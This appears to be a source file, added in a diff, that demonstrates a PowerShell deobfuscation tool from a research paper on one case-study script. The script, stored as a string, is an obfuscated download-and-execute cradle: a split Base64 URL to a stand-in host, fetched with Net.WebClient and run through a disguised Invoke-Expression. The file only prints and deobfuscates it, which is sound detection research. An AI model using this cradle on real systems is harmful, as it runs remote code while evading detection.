@@ -1,0 +1,74 @@
+// The paper's section IV-C5 case study (Fig 7 and Fig 8): one script that
+// stacks L1, L2 and L3 obfuscation, walked through every phase of
+// Invoke-Deobfuscation and then through all five tools side by side.
+
+#include <cstdio>
+#include <string>
+
+#include "baselines/baseline.h"
+#include "core/deobfuscator.h"
+#include "core/recovery.h"
+#include "core/reformat.h"
+#include "core/rename.h"
+#include "core/token_pass.h"
+
+namespace {
+
+std::string fig7a_case() {
+  // Mirrors Fig 7(a): an iex-wrapped reordered string, Base64 split across
+  // two randomly named variables, and the $PSHome Invoke-Expression trick
+  // around a blocklisted download.
+  const std::string b64a = "aAB0AHQAcABzADoALwAvAHQAZQBzAHQALgBjAG";
+  const std::string b64b = "8AbQAvAG0AYQBsAHcAYQByAGUALgB0AHgAdAA=";
+  return
+      "i`E`x (\"{2}{0}{1}\" -f 'ost h', 'ello', 'write-h')\n"
+      "$xdjmd = '" + b64a + "'\n"
+      "$lsffs = '" + b64b + "'\n"
+      "$sdfs = [TeXT.eNcOdINg]::Unicode.GetString([Convert]::"
+      "FromBase64String($xdjmd + $lsffs))\n"
+      ".($psHoME[4]+$PShOME[30]+'x') (NeW-oBJeCt "
+      "Net.WebClient).downloadstring($sdfs)";
+}
+
+void banner(const char* title) {
+  std::printf("\n==================== %s ====================\n", title);
+}
+
+}  // namespace
+
+int main() {
+  const std::string script = fig7a_case();
+
+  banner("Fig 7(a): the obfuscated case");
+  std::printf("%s\n", script.c_str());
+
+  // ---- Phase walk-through (Fig 7 b-d) ----
+  banner("Fig 7(b): after token parsing");
+  ideobf::TokenPassStats token_stats;
+  const std::string after_tokens = ideobf::token_pass(script, &token_stats);
+  std::printf("%s\n", after_tokens.c_str());
+  std::printf("(ticks removed: %d, case normalized: %d, aliases: %d)\n",
+              token_stats.ticks_removed, token_stats.case_normalized,
+              token_stats.aliases_expanded);
+
+  banner("Fig 7(c): after recovery based on AST + variable tracing");
+  ideobf::RecoveryOptions ropts;
+  ideobf::RecoveryStats rstats;
+  const std::string after_recovery =
+      ideobf::recovery_pass(after_tokens, ropts, &rstats);
+  std::printf("%s\n", after_recovery.c_str());
+  std::printf("(pieces recovered: %d, variables traced: %d, substituted: %d)\n",
+              rstats.pieces_recovered, rstats.variables_traced,
+              rstats.variables_substituted);
+
+  banner("Fig 7(d): after renaming and reformatting (full pipeline)");
+  ideobf::InvokeDeobfuscator deobf;
+  std::printf("%s\n", deobf.deobfuscate(script).c_str());
+
+  // ---- Fig 8: all tools side by side ----
+  for (const auto& tool : ideobf::make_all_tools()) {
+    banner(("Fig 8: " + tool->name()).c_str());
+    std::printf("%s\n", tool->run(script).script.c_str());
+  }
+  return 0;
+}
